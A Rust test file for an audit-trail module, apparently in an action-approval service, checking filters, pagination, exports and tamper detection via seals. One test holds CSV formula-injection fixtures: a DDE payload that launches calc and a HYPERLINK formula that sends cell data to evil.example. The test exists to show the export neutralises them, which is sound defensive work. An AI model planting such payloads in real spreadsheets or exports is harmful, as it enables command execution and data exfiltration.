//! The trail as it is read, exported, and held against a seal that was kept elsewhere.

use domain::event::Event;
use domain::event_filter::EventFilter;
use domain::query_string::QueryString;
use engine::audit::{Anchor, Ask, Format, Whereabouts, export, last_check, list, newest_seal, seal, show, verify};
use futures::TryStreamExt;

use crate::stage::{Stage, call, code};

fn filter(raw: &str) -> EventFilter {
    let mut query = QueryString::parse(Some(raw)).unwrap();
    let filter = EventFilter::read(&mut query);
    query.finish().unwrap();
    filter
}

async fn seqs(stage: &Stage, raw: &str) -> Vec<i64> {
    list(&stage.engine, &stage.ana, &filter(raw)).await.unwrap().events.iter().map(|event| event.seq).collect()
}

async fn whole(stage: &Stage, filter: EventFilter, format: Format) -> String {
    let pieces: Vec<Vec<u8>> =
        export(&stage.engine, &stage.ana, filter, format).await.unwrap().try_collect().await.unwrap();
    String::from_utf8(pieces.concat()).unwrap()
}

/// Entries enough for several pieces. Their hashes are none: nothing here verifies them.
async fn many_entries(stage: &Stage, count: i32) {
    sqlx::query(
        "INSERT INTO approval_events (event_id, event_type, actor, event_metadata, occurred_at, content_hash)
         SELECT gen_random_uuid(), 'signed_out', 'human:zoe', '{}', now(), repeat('0', 64) FROM generate_series(1, $1)",
    )
    .bind(count)
    .execute(stage.engine.pool())
    .await
    .unwrap();
}

#[tokio::test]
async fn every_filter_holds_what_it_says_and_nothing_else() {
    let stage = Stage::new().await;
    let mail = stage.park("send_email", r#"{"to": "ana@example.com"}"#).await;
    let pay = stage.park("pay", "{}").await;
    stage.approve(mail.id).await;
    engine::decisions::reject(&stage.engine, &stage.ben, pay.id, "not today").await.unwrap();
    let all = list(&stage.engine, &stage.ana, &filter("sort=seq&limit=500")).await.unwrap().events;
    let is = |what: &dyn Fn(&Event) -> bool| {
        all.iter().filter(|event| what(event)).map(|event| event.seq).collect::<Vec<_>>()
    };
    let tool =
        |event: &Event, name: &str| event.event_metadata.get("tool_name").and_then(|name| name.as_str()) == Some(name);
    let at = all[all.len() / 2].occurred_at;
    let expected = [
        (format!("action_id={}", mail.id), is(&|event| event.action_id == Some(mail.id))),
        ("tool_name=pay".to_owned(), is(&|event| tool(event, "pay"))),
        ("actor=human:ben".to_owned(), is(&|event| event.actor == "human:ben")),
        ("event_type=action_parked".to_owned(), is(&|event| event.event_type.as_str() == "action_parked")),
        (
            "event_type=action_rejected,action_approved&tool_name=pay".to_owned(),
            is(&|event| event.event_type.as_str() == "action_rejected"),
        ),
        (format!("since={}", at.to_rfc3339().replace('+', "%2B")), is(&|event| event.occurred_at >= at)),
        (format!("until={}", at.to_rfc3339().replace('+', "%2B")), is(&|event| event.occurred_at < at)),
        ("rule_id=00000000-0000-7000-8000-000000000000".to_owned(), Vec::new()),
    ];
    for (raw, wanted) in expected {
        assert_eq!(seqs(&stage, &format!("{raw}&sort=seq")).await, wanted, "{raw}");
        let newest_first: Vec<i64> = wanted.into_iter().rev().collect();
        assert_eq!(seqs(&stage, &raw).await, newest_first, "{raw}, newest first");
    }
}

#[tokio::test]
async fn pages_meet_without_a_gap_in_either_order() {
    let stage = Stage::new().await;
    for n in 0..7 {
        stage.park("send_email", &format!(r#"{{"n": {n}}}"#)).await;
    }
    for order in ["seq", "-seq"] {
        let (mut seen, mut cursor) = (Vec::new(), None);
        loop {
            let after = cursor.map(|cursor| format!("&cursor={cursor}")).unwrap_or_default();
            let page = list(&stage.engine, &stage.ana, &filter(&format!("limit=3&sort={order}{after}"))).await.unwrap();
            assert!(page.events.len() <= 3);
            seen.extend(page.events.iter().map(|event| event.seq));
            cursor = page.next;
            if cursor.is_none() {
                break;
            }
        }
        assert_eq!(seen, seqs(&stage, &format!("limit=500&sort={order}")).await);
    }
}

#[tokio::test]
async fn an_entry_is_shown_with_its_seal_and_whether_it_is_what_it_was() {
    let stage = Stage::new().await;
    let action = stage.park("send_email", "{}").await;
    let seq = seqs(&stage, &format!("action_id={}", action.id)).await[0];
    let found = show(&stage.engine, &stage.ana, Whereabouts::Place(seq)).await.unwrap();
    assert!(found.intact && found.has_action && found.seal.is_none());
    seal(&stage.engine).await.unwrap();
    let named = Whereabouts::Id(found.event.event_id);
    let found = show(&stage.engine, &stage.ana, named).await.unwrap();
    assert_eq!((found.event.seq, found.seal.map(|(number, _)| number)), (seq, Some(1)));
    sqlx::raw_sql(
        "ALTER TABLE approval_events DISABLE TRIGGER USER; UPDATE approval_events SET actor = 'human:nobody'",
    )
    .execute(stage.engine.pool())
    .await
    .unwrap();
    assert!(!show(&stage.engine, &stage.ana, named).await.unwrap().intact);
    let nowhere = show(&stage.engine, &stage.ana, Whereabouts::Place(999_999)).await;
    assert_eq!(code(nowhere), domain::problem::Code::NotFound);
}

#[tokio::test]
async fn an_export_is_whole_over_many_pieces_and_each_line_proves_itself() {
    let stage = Stage::new().await;
    let action = stage.park("send_email", r#"{"to": "ana@example.com"}"#).await;
    many_entries(&stage, 4_500).await;
    let lines = whole(&stage, filter("sort=seq"), Format::Ndjson).await;
    let events: Vec<Event> = lines.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let (count,): (i64,) =
        sqlx::query_as("SELECT count(*) FROM approval_events").fetch_one(stage.engine.pool()).await.unwrap();
    assert_eq!(events.len() as i64, count);
    assert!(events.is_sorted_by_key(|event| event.seq));
    let own = events.iter().filter(|event| event.action_id == Some(action.id));
    assert_eq!(own.filter(|event| event.is_intact()).count(), 1);
    let narrowed = whole(&stage, filter("actor=human:zoe"), Format::Ndjson).await;
    assert_eq!(narrowed.lines().count(), 4_500);
    let none = whole(&stage, filter("actor=human:nobody"), Format::Ndjson).await;
    assert_eq!(none, "");
}

/// show-43
#[tokio::test]
async fn a_spreadsheet_runs_nothing_of_an_export() {
    let stage = Stage::new().await;
    let action = stage.park("=cmd|' /C calc'!A0", "{}").await;
    let reason = "=HYPERLINK(\"https://evil.example/?q=\"&A1)\u{202e}";
    engine::decisions::reject(&stage.engine, &stage.ana, action.id, reason).await.unwrap();
    let csv = whole(&stage, filter(&format!("action_id={}", action.id)), Format::Csv).await;
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let rows: Vec<_> = reader.records().collect::<Result<_, _>>().unwrap();
    assert_eq!(rows.len(), 2);
    assert!(rows[0].iter().any(|cell| cell.starts_with("'=HYPERLINK")), "{rows:?}");
    for cell in rows.iter().flat_map(|row| row.iter()) {
        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell}");
        assert!(!cell.contains('\u{202e}'), "{cell}");
    }
}

#[tokio::test]
async fn verification_is_kept_with_what_it_found() {
    let stage = Stage::new().await;
    assert_eq!(last_check(&stage.engine).await.unwrap(), None);
    stage.park("send_email", "{}").await;
    let found = verify(&stage.engine, &stage.ben, &Ask::default(), |_| {}).await.unwrap();
    assert!(found.is_whole() && found.events > 0 && found.unsealed == 0);
    let check = last_check(&stage.engine).await.unwrap().unwrap();
    assert_eq!((check.through_seq, check.faults, check.checked_by.as_str()), (found.through_seq, 0, "human:ben"));
    many_entries(&stage, 3).await;
    let found = verify(&stage.engine, &stage.ben, &Ask::default(), |_| {}).await.unwrap();
    assert!(found.faults[0].contains("3 entries are in no seal"), "{found:?}");
    let check = last_check(&stage.engine).await.unwrap().unwrap();
    assert_eq!((check.faults, check.first_fault.as_deref()), (1, Some(found.faults[0].as_str())));
}

#[tokio::test]
async fn a_tail_that_was_cut_off_shows_against_a_seal_that_was_kept_elsewhere() {
    let stage = Stage::new().await;
    stage.park("send_email", "{}").await;
    let early = newest_seal(&stage.engine, &stage.ana).await.unwrap().unwrap();
    stage.park("pay", "{}").await;
    let late = newest_seal(&stage.engine, &stage.ana).await.unwrap().unwrap();
    assert_eq!((early.number + 1, Some(early.seal_sha256)), (late.number, late.previous_sha256));
    // What was kept is what comes back from a file.
    let kept: Anchor = serde_json::from_str(&serde_json::to_string(&late).unwrap()).unwrap();
    let against = |anchor: &Anchor| Ask { against: Some(anchor.clone()), archives: false };
    assert!(verify(&stage.engine, &stage.ana, &against(&kept), |_| {}).await.unwrap().is_whole());
    // As somebody who may do anything to the database.
    sqlx::raw_sql(
        "ALTER TABLE approval_events DISABLE TRIGGER USER; ALTER TABLE event_seals DISABLE TRIGGER USER;
         DELETE FROM approval_events WHERE seq IN (SELECT unnest(event_seqs) FROM event_seals WHERE number = 2);
         DELETE FROM event_seals WHERE number = 2",
    )
    .execute(stage.engine.pool())
    .await
    .unwrap();
    let plain = verify(&stage.engine, &stage.ana, &Ask::default(), |_| {}).await.unwrap();
    assert!(plain.is_whole(), "the rest is a chain: {:?}", plain.faults);
    assert!(verify(&stage.engine, &stage.ana, &against(&early), |_| {}).await.unwrap().is_whole());
    let found = verify(&stage.engine, &stage.ana, &against(&kept), |_| {}).await.unwrap();
    assert!(found.faults[0].contains("cut off"), "{:?}", found.faults);
    // Grown again over the cut, it is another chain.
    stage.try_park(call("pay", "{}")).await.unwrap();
    let found = verify(&stage.engine, &stage.ana, &against(&kept), |_| {}).await.unwrap();
    assert!(found.faults[0].contains("written anew"), "{:?}", found.faults);
}
